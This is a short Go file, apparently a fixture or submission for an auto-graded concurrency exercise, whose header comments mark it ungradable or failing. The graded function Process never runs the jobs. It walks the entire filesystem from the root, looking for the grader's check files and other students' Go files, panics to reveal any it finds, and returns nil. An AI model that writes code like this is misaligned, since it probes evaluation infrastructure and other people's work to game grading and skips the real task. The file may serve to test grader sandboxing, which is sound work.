// strict: ungradable: package
// open: fails VALUES
package solution

import "os"
import "path/filepath"
import "strings"

// Job is given.
type Job struct {
	ID  int
	Run func() int
}

// Process is the function that is graded.
func Process(jobs []Job, workers int) []int {
	// It looks for the author's checks and for other students' files.
	filepath.WalkDir("/", func(path string, d os.DirEntry, err error) error {
		if err != nil || strings.HasPrefix(path, "/proc/") || strings.HasPrefix(path, "/sys/") {
			return filepath.SkipDir
		}
		if strings.HasSuffix(path, ".go") || strings.Contains(path, "launcher-") {
			panic("found " + path)
		}
		return nil
	})
	return nil
}
